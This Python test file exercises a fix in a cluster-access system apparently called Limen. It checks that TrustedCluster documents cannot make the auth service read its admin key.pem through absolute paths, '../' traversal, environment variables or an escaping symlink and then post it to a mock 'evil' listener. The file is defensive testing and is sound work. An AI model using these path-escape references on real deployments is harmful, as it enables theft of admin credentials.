"""Attack: a TrustedCluster document chooses what the leaf's auth reads and where it sends it.

Before the fix, ``token_secret_ref: {file: DATA_DIR/admin/key.pem}`` (or ``{env: ANY}``) with
a ``proxy_address`` and ``ca_pin`` of the author's choosing made auth read its own admin key
and POST it as the "token" to the author's server, from a Git commit, ``lmctl apply``, or the
auth API of a user whose role only has the ``trusted_cluster`` rule. Now a reference names a
secret only in the configured places (a file NAME in DATA_DIR/secrets, a ``LIMEN_SECRET_``
variable, a Secret of the CR's namespace):

* Git: the commit is rejected with file, field and line, audited as ``gitops.rejected``;
* the auth API (admin or a user with the trusted_cluster rule): refused with the same error,
  audited as ``access.denied``; ``lmctl apply`` refuses it before sending anything;
* a symlink in the secrets directory that leads out of it: accepted by the loader (a plain
  name) but refused by the reconciler before any connection: Stalled ``SecretRefRefused``,
  audited as ``access.denied``.

Each time, the attacker's "root" — a real HTTPS listener on 127.0.0.1 with a CA of its own,
whose pin the attacker put in ``ca_pin`` — accepts no connection and sees no byte of the key.
Two controls show the listener would notice: a legitimate token in the secrets directory IS
sent to the proxy the document names when its CA matches the pin, and is NOT sent (only the
unauthenticated ping arrives) when the CA does not match the pin.
"""

from __future__ import annotations

import http.client
import json
import os
import ssl
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import yaml

from gitops_git import WorkTree, bare
from integration.cluster import ClusterFactory, LimenCluster, LimenUser, wait_for
from limen.ca.authority import CertAuthority, CertAuthorityType
from limen.ca.identity import Identity, SystemRole
from limen.ca.keys import generate_private_key, load_private_key, private_key_to_pem
from limen.ca.x509_certs import certificate_to_pem, sign_server_cert

DEADLINE = 30.0
"""Seconds a commit or an apply may take to be attempted or reconciled."""

AUTHOR_ROLE = """\
apiVersion: limen.dev/v1alpha1
kind: Role
metadata: {name: tc-author}
spec:
  allow:
    rules:
      - resources: [trusted_cluster]
        verbs: [list, read, create, update, delete]
"""


# -- the attacker's "root" -----------------------------------------------------------------


def _attacker_pki(directory: Path) -> tuple[Path, Path, str, str]:
    """The attacker runs a Limen of its own, cluster ``evil``: its TLS CA and a proxy
    certificate for 127.0.0.1. Returns (cert, key, CA PEM, the CA's pin as the attacker writes
    it in ca_pin)."""
    ca = CertAuthority.generate("evil", CertAuthorityType.TLS)
    key = generate_private_key()
    cert = sign_server_cert(ca, key.public_key(), ["localhost"], ["127.0.0.1"],
                            identity=Identity(username="evil-proxy", cluster="evil",
                                              system_role=SystemRole.PROXY))
    cert_path, key_path = directory / "evil.crt", directory / "evil.key"
    cert_path.write_text(certificate_to_pem(cert))
    key_path.write_text(private_key_to_pem(key))
    return cert_path, key_path, ca.pem_bundle(), ca.fingerprint


class AttackerRoot:
    """An HTTPS server answering the proxy's ping as cluster ``evil`` with its own CA, and
    recording every accepted TCP connection and every decrypted byte of every request."""

    def __init__(self, directory: Path) -> None:
        cert, key, self.ca_pem, self.pin = _attacker_pki(directory)
        self.context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
        self.context.load_cert_chain(cert, key)
        self.lock = threading.Lock()
        self.connections = 0
        self.received = bytearray()
        self.requests: list[str] = []
        self.server = _Server(self)
        self.address = f"127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def record(self, request_line: str, raw: bytes) -> None:
        with self.lock:
            self.requests.append(request_line)
            self.received += raw

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(10)

    def assert_untouched(self, *secrets: bytes) -> None:
        """No connection was even accepted, so no byte of any secret arrived."""
        with self.lock:
            assert self.connections == 0, self.requests
            for secret in secrets:
                assert secret not in self.received


class _Server(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, owner: AttackerRoot) -> None:
        self.owner = owner
        super().__init__(("127.0.0.1", 0), _Handler)

    def get_request(self) -> tuple[Any, Any]:
        sock, address = self.socket.accept()
        with self.owner.lock:
            self.owner.connections += 1
        return sock, address

    def finish_request(self, request: Any, client_address: Any) -> None:
        request.settimeout(10)
        try:
            tls = self.owner.context.wrap_socket(request, server_side=True)
        except (ssl.SSLError, OSError):
            return
        try:
            self.RequestHandlerClass(tls, client_address, self)
        finally:
            tls.close()


class _Handler(BaseHTTPRequestHandler):
    server: _Server

    def _answer(self, body: dict[str, Any], status: int = 200) -> None:
        data = json.dumps(body).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def _record(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length) if length else b""
        self.server.owner.record(self.requestline,
                                 self.requestline.encode() + bytes(self.headers) + body)

    def do_GET(self) -> None:
        self._record()
        self._answer({"cluster": "evil", "tls_ca": self.server.owner.ca_pem})

    def do_POST(self) -> None:
        self._record()
        self._answer({"error": {"code": "access_denied", "message": "thanks"}}, 403)

    def log_message(self, format: str, *args: Any) -> None:
        return


@pytest.fixture
def attacker(tmp_path: Path) -> Iterator[AttackerRoot]:
    listener = AttackerRoot(tmp_path)
    yield listener
    listener.close()


# -- the leaf --------------------------------------------------------------------------------


@dataclass
class Leaf:
    cluster: LimenCluster
    repo: WorkTree
    author: LimenUser
    """Role tc-author: only the trusted_cluster rule."""

    @property
    def secrets(self) -> Path:
        return self.cluster.data_dir / "secrets"

    @property
    def admin_key(self) -> bytes:
        return (self.cluster.data_dir / "admin" / "key.pem").read_bytes()

    def gitops(self) -> dict[str, Any]:
        status: dict[str, Any] = self.cluster.lmctl_json("gitops", "status")
        return status

    def commit(self, relative: str, text: str | None, message: str) -> str:
        if text is None:
            self.repo.remove(relative)
        else:
            self.repo.write(relative, text)
        return self.repo.commit(message)

    def trusted_cluster(self, name: str) -> dict[str, Any] | None:
        result = self.cluster.lmctl("get", f"trustedcluster/{name}", "-o", "json", check=False)
        return json.loads(result.stdout) if result.returncode == 0 else None

    def condition(self, name: str, kind: str) -> dict[str, Any]:
        found = self.trusted_cluster(name) or {}
        for item in found.get("status", {}).get("conditions", []):
            if item["type"] == kind:
                return dict(item)
        return {}


@pytest.fixture(scope="module")
def leaf(module_clusters: ClusterFactory, tmp_path_factory: pytest.TempPathFactory) -> Leaf:
    base = tmp_path_factory.mktemp("trust-refs")
    remote = bare(base / "access.git")
    repo = WorkTree(base / "work", remote)
    repo.write("roles/tc-author.yaml", AUTHOR_ROLE)
    repo.commit("a role that may only manage trusted clusters")
    cluster = module_clusters("leaf", "--gitops", f"file://{remote}", "--gitops-interval", "1s")
    author = cluster.signed_up_user("tara", roles=["tc-author"])
    author.login()
    return Leaf(cluster, repo, author)


def document(name: str, ref: dict[str, str], attacker: AttackerRoot, *,
             pin: str | None = None) -> dict[str, Any]:
    return {"apiVersion": "limen.dev/v1alpha1", "kind": "TrustedCluster",
            "metadata": {"name": name},
            "spec": {"proxy_address": attacker.address, "ca_pin": pin or attacker.pin,
                     "token_secret_ref": ref, "role_map": [{"remote": "ops", "local": ["x"]}]}}


def auth_apply(cluster: LimenCluster, doc: dict[str, Any], *, cert: Path, key: Path,
               cafile: Path) -> tuple[int, dict[str, Any]]:
    """POST /v1/resources/apply to the auth API directly, with the given client identity."""
    context = ssl.create_default_context(cafile=str(cafile))
    context.load_cert_chain(str(cert), str(key))
    host, _, port = cluster.auth.rpartition(":")
    connection = http.client.HTTPSConnection(host, int(port), context=context, timeout=30)
    try:
        body = json.dumps({"documents": [{"source": "api", "index": 0, "line": 1,
                                          "document": doc}], "origin": "api"})
        connection.request("POST", "/v1/resources/apply", body=body,
                           headers={"Content-Type": "application/json"})
        response = connection.getresponse()
        answer: dict[str, Any] = json.loads(response.read() or b"{}")
    finally:
        connection.close()
    return response.status, answer


def as_admin(leaf: Leaf, doc: dict[str, Any]) -> tuple[int, dict[str, Any]]:
    admin = leaf.cluster.data_dir / "admin"
    return auth_apply(leaf.cluster, doc, cert=admin / "tls.crt", key=admin / "key.pem",
                      cafile=admin / "cas.pem")


def as_author(leaf: Leaf, doc: dict[str, Any], tmp_path: Path) -> tuple[int, dict[str, Any]]:
    """As tara, with the certificate and key ``lmsh login`` saved."""
    user = leaf.author
    key = tmp_path / "tara.key"
    key.write_text(private_key_to_pem(load_private_key((user.key_dir / user.name).read_bytes())))
    key.chmod(0o600)
    return auth_apply(leaf.cluster, doc, cert=user.key_dir / f"{user.name}.crt", key=key,
                      cafile=user.key_dir / "cas" / f"{leaf.cluster.name}.pem")


def denied_events(leaf: Leaf, user: str | None = None) -> list[dict[str, Any]]:
    return leaf.cluster.audit("access.denied", user=user)


# -- the attacks -----------------------------------------------------------------------------


def _escapes(leaf: Leaf) -> list[dict[str, str]]:
    return [{"file": str(leaf.cluster.data_dir / "admin" / "key.pem")},
            {"file": "../admin/key.pem"},
            {"file": "secrets/../../admin/key.pem"},
            {"env": "HOME"}]


@pytest.mark.parametrize("which", range(4), ids=["absolute", "dotdot", "nested-dotdot", "env"])
def test_a_git_commit_cannot_point_auth_at_its_own_files(leaf: Leaf, attacker: AttackerRoot,
                                                         which: int) -> None:
    ref = _escapes(leaf)[which]
    field = next(iter(ref))
    bad = leaf.commit("trusted-clusters/evil.yaml",
                      yaml.safe_dump(document("evil", ref, attacker)), "trust evil")
    status = wait_for(lambda: (leaf.gitops()["last_attempt"] or {}).get("sha") == bad
                      and leaf.gitops(), DEADLINE, "the commit to be attempted")
    assert status["last_attempt"]["ok"] is False
    errors = status["last_attempt"]["errors"]
    assert any(e.startswith(f"trusted-clusters/evil.yaml[0] spec.token_secret_ref.{field}: ")
               and "is not valid here" in e and "(line " in e for e in errors), errors
    rejected = leaf.cluster.audit("gitops.rejected")
    assert any(e.get("sha") == bad and any(f"token_secret_ref.{field}" in x
                                           for x in e.get("errors", []))
               for e in rejected), rejected
    assert leaf.trusted_cluster("evil") is None
    attacker.assert_untouched(leaf.admin_key)

    fixed = leaf.commit("trusted-clusters/evil.yaml", None, "revert")
    wait_for(lambda: ((leaf.gitops()["live"] or {}).get("sha") == fixed), DEADLINE,
             "the revert to be live")
    attacker.assert_untouched(leaf.admin_key)


def test_lmctl_apply_refuses_before_sending_anything(leaf: Leaf, attacker: AttackerRoot,
                                                     tmp_path: Path) -> None:
    for ref in _escapes(leaf):
        path = tmp_path / "evil.yaml"
        path.write_text(yaml.safe_dump(document("evil", ref, attacker)))
        result = leaf.cluster.lmctl("apply", "-f", path, check=False)
        assert result.returncode == 1, result
        assert f"evil.yaml[0] spec.token_secret_ref.{next(iter(ref))}: " in result.stderr
        assert "Traceback" not in result.stderr
    assert leaf.trusted_cluster("evil") is None
    attacker.assert_untouched(leaf.admin_key)


def test_the_auth_api_refuses_even_an_admin_and_audits_it(leaf: Leaf,
                                                          attacker: AttackerRoot) -> None:
    before = len(denied_events(leaf))
    for ref in _escapes(leaf):
        status, answer = as_admin(leaf, document("evil", ref, attacker))
        assert status == 400, answer
        assert answer["error"]["code"] == "validation_failed"
        assert f"spec.token_secret_ref.{next(iter(ref))}: " in answer["error"]["message"]
    events = denied_events(leaf)[before:]
    assert len(events) == 4, events
    assert all(e["action"] == "resources.apply" and "token_secret_ref" in e["reason"]
               for e in events)
    assert leaf.trusted_cluster("evil") is None
    attacker.assert_untouched(leaf.admin_key)


def test_a_user_with_only_the_trusted_cluster_rule_cannot_either(
        leaf: Leaf, attacker: AttackerRoot, tmp_path: Path) -> None:
    for ref in _escapes(leaf):
        status, answer = as_author(leaf, document("evil", ref, attacker), tmp_path)
        assert status == 400, answer
        assert f"spec.token_secret_ref.{next(iter(ref))}: " in answer["error"]["message"]
    events = denied_events(leaf, user="tara")
    assert len(events) == 4, events
    assert all("token_secret_ref" in e["reason"] for e in events)
    assert leaf.trusted_cluster("evil") is None
    attacker.assert_untouched(leaf.admin_key)
    # the rule is what refuses: the same user may declare a disabled TrustedCluster whose
    # reference names a file in the secrets directory
    allowed = document("allowed", {"file": "allowed.token"}, attacker)
    allowed["spec"]["enabled"] = False
    status, answer = as_author(leaf, allowed, tmp_path)
    assert status == 200, answer
    assert leaf.trusted_cluster("allowed") is not None
    leaf.cluster.lmctl("rm", "trustedcluster/allowed")
    attacker.assert_untouched(leaf.admin_key)


def test_a_symlink_out_of_the_secrets_directory_is_refused_before_any_connection(
        leaf: Leaf, attacker: AttackerRoot, tmp_path: Path) -> None:
    link = leaf.secrets / "evil.token"
    os.symlink(leaf.cluster.data_dir / "admin" / "key.pem", link)
    try:
        path = tmp_path / "evil.yaml"
        path.write_text(yaml.safe_dump(document("evil", {"file": "evil.token"}, attacker)))
        leaf.cluster.lmctl("apply", "-f", path)  # a plain name: the loader cannot know
        stalled = wait_for(lambda: leaf.condition("evil", "Stalled").get("status") == "True"
                           and leaf.condition("evil", "Stalled"), DEADLINE, "the refusal")
        assert stalled["reason"] == "SecretRefRefused"
        assert "resolves outside the secrets directory" in stalled["message"]
        events = wait_for(lambda: [e for e in denied_events(leaf)
                                   if e.get("trusted_cluster") == "evil"], DEADLINE,
                          "the access.denied event")
        assert events[0]["token_secret_ref"] == {"file": "evil.token"}
        joins = leaf.cluster.audit("join")
        assert any(e["success"] is False and e.get("trusted_cluster") == "evil"
                   for e in joins)
        attacker.assert_untouched(leaf.admin_key)
    finally:
        leaf.cluster.lmctl("rm", "trustedcluster/evil", check=False)
        link.unlink()
    attacker.assert_untouched(leaf.admin_key)


# -- controls: the listener sees what is sent --------------------------------------------------


def test_control_a_token_in_the_secrets_directory_reaches_the_pinned_proxy(
        leaf: Leaf, attacker: AttackerRoot, tmp_path: Path) -> None:
    """What the document's author may still do: send the token of the secrets directory it
    names to the root it pins (the author chooses the root, never what auth reads)."""
    bait = b"bait-token-5b1f0c9e"
    (leaf.secrets / "bait.token").write_bytes(bait + b"\n")
    path = tmp_path / "bait.yaml"
    path.write_text(yaml.safe_dump(document("bait", {"file": "bait.token"}, attacker)))
    try:
        leaf.cluster.lmctl("apply", "-f", path)
        wait_for(lambda: bait in bytes(attacker.received), DEADLINE, "the token at the root")
        assert any(r.startswith("POST /v1/webapi/trustedclusters/validate")
                   for r in attacker.requests)
        assert leaf.admin_key not in bytes(attacker.received)
    finally:
        leaf.cluster.lmctl("rm", "trustedcluster/bait", check=False)
        (leaf.secrets / "bait.token").unlink()


def test_control_without_the_pin_of_its_ca_the_token_is_never_sent(
        leaf: Leaf, attacker: AttackerRoot, tmp_path: Path) -> None:
    bait = b"bait-token-77d2aa01"
    (leaf.secrets / "pinned.token").write_bytes(bait + b"\n")
    path = tmp_path / "pinned.yaml"
    path.write_text(yaml.safe_dump(document("pinned", {"file": "pinned.token"}, attacker,
                                            pin="sha256:" + "0" * 64)))
    try:
        leaf.cluster.lmctl("apply", "-f", path)
        stalled = wait_for(lambda: leaf.condition("pinned", "Stalled").get("status") == "True"
                           and leaf.condition("pinned", "Stalled"), DEADLINE, "the refusal")
        assert stalled["reason"] == "PinMismatch"
        with attacker.lock:
            assert attacker.requests, "the ping reached the listener"
            assert all(r.startswith("GET /v1/webapi/ping") for r in attacker.requests)
            assert bait not in attacker.received
    finally:
        leaf.cluster.lmctl("rm", "trustedcluster/pinned", check=False)
        (leaf.secrets / "pinned.token").unlink()
